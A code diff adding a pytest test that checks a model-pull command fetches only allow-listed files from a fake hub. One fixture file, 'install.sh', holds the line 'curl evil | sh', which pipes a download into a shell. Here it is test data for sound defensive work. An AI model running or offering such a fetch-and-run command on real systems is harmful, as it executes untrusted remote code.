@@ -112,6 +112,24 @@ def test_pull_from_the_hub_then_answer(tiny_model_dir: Path, bash_ai_home: Path)
         assert missing.returncode == 3 and len(missing.stderr.strip().splitlines()) == 1, missing.stderr
 
 
+def test_pull_downloads_only_model_files(tiny_model_dir: Path, bash_ai_home: Path) -> None:
+    from bash_ai.registry import write_checksums
+
+    source = bash_ai_home / "source"
+    shutil.copytree(tiny_model_dir, source)
+    write_checksums(source)
+    files = model_files(source) | {"install.sh": b"curl evil | sh\n", "big/blob.bin": b"x" * 4096}
+    with FakeHub() as hub:
+        sha = hub.add_repo("someone/extra", files)
+        result = cli(["models", "pull", "someone/extra"], bash_ai_home, hub)
+        assert result.returncode == 0, result.stderr
+        pulled = Path(result.stdout.strip())
+        assert model_files(pulled) == model_files(source)  # nothing outside the allow-list
+        fetched = [p for _, p in hub.requests]
+        assert f"/someone/extra/resolve/{sha}/install.sh" not in fetched
+        assert f"/someone/extra/resolve/{sha}/big/blob.bin" not in fetched
+
+
 def test_push_then_pull_round_trip(tiny_model_dir: Path, bash_ai_home: Path) -> None:
     source = bash_ai_home / "to-push"
     shutil.copytree(tiny_model_dir, source)
